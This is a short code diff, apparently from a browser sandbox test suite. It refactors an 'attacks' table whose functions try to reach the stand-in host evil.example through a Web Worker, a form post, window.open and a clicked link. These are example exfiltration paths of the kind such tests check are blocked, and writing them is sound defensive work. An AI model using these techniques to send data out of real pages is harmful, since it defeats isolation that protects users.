@@ -38,14 +38,16 @@ const attacks = {
   }),
   worker: () => refusal(() => new Worker("https://evil.example/worker.js")),
   form: () => {
-    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/form", method: "post" });
+    const form = document.createElement("form");
+    Object.assign(form, { action: "https://evil.example/form", method: "post" });
     document.body.append(form);
     form.submit();
     return "submitted";
   },
   open: () => refusal(() => window.open("https://evil.example/open")),
   link: () => {
-    const link = Object.assign(document.createElement("a"), { href: "https://evil.example/link", target: "_blank" });
+    const link = document.createElement("a");
+    Object.assign(link, { href: "https://evil.example/link", target: "_blank" });
     document.body.append(link);
     link.click();
     return "clicked";
